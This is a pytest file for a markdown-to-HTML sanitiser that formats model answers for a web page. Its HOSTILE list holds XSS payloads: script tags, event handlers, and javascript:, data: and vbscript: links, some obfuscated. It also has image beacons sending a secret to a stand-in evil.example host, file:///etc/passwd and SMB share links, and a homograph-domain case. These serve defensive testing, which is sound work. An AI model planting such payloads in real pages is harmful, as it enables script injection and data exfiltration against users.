"""What an answer may do in a page: format itself, and nothing else."""

import io
import re
from html.parser import HTMLParser

import pytest

from app.services.markdown_convert import convert, read_frame, write_frame
from tests.support.sample_sessions import BREAKER, FUSE

ALLOWED = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "code", "pre", "ul", "ol", "li",
    "blockquote", "a", "span", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_what_models_write_is_laid_out() -> None:
    html = convert(BREAKER + "\n\n" + FUSE)
    for piece in (
        "<strong>circuit breaker</strong>", "<ol>\n<li><strong>Closed</strong>",
        "<pre><code>class Breaker:\n    def",
        "<em>before</em>", "<th>State</th>", "<td>one probe goes through</td>", "<blockquote>",
        'href="https://example.com/release-it"', 'rel="noopener noreferrer"',
        "[image: a fuse box, images.example]",
    ):  # fmt: skip
        assert piece in html


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<svg onload=alert(1)><image href='//evil.example/x'></svg>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!-- comment --><![CDATA[x]]><?php x ?>",
    "<p style='position:fixed'>over everything</p></div></article>",
    "<form action=https://evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/share)",
    "[x](\\\\evil.example\\share)",
    "[x](smb://evil.example/share)",
    "[x](https://user:pw@evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "![x](https://evil.example/beacon.png?secret)",
    "![x][r]\n\n[r]: https://evil.example/beacon.png",
    "[![x](https://evil.example/b.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "`<script>`\n```html\n<script>alert(1)</script>\n```",
    "~~~\"onload=alert(1)\nx\n~~~",
    "``` {.x onclick=alert(1) #id}\nx\n```",
    "a\x02wzxhzdk:0\x03b \x02klzzwxh:0000\x03 \x02amp\x03",
    "| <img src=x> | `<b>` |\n|---|---|\n| ![a](//e.example/x) | [b](javascript:c) |",
    "# <img src=x onerror=alert(1)>",
    "- <script>\n\n  alert(1)\n\n  </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_an_answer_can_load_run_and_open_nothing(text: str) -> None:
    read = _Reader(convert(f"before\n\n{text}\n\nafter"))
    assert read.tags <= ALLOWED
    for tag, name, value in read.attributes:
        assert (tag, name) in {
            ("a", "href"),
            ("a", "title"),
            ("a", "rel"),
            ("td", "align"),
            ("th", "align"),
            ("ol", "start"),
        }
        if name == "href":
            assert re.match(r"https?://[^/@]+(/|$)|mailto:", value)
    assert "before" in read.text
    assert "after" in read.text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("see <b>x</b> & y", "see <b>x</b> & y"),
        ("[x](javascript:alert(1))", "x (javascript:alert(1))"),
        ("![alt](https://host.example/p.png)", "[image: alt, host.example]"),
        ("![](x.png)", "[image: no description]"),
        ("a\u202eb", "a<U+202E>b"),
        ("a\x1b[31mb\x00", "a␛[31mb␀"),
        ("x < 3 > y", "x < 3 > y"),
    ],
)
def test_what_is_not_laid_out_is_shown(text: str, shown: str) -> None:
    assert _Reader(convert(text)).text.strip() == shown


def test_a_link_shows_where_it_really_goes() -> None:
    html = convert("[https://bank.example](https://аpple.com/)")
    assert 'href="https://xn--pple-43d.com/"' in html
    assert 'title="https://xn--pple-43d.com/"' in html


def test_frames_come_back_as_they_went_and_a_cut_one_is_an_end() -> None:
    stream = io.BytesIO()
    write_frame(stream, b"abc")
    write_frame(stream, b"")
    data = stream.getvalue()
    again = io.BytesIO(data)
    assert (read_frame(again), read_frame(again), read_frame(again)) == (b"abc", b"", None)
    assert read_frame(io.BytesIO(data[:5])) is None
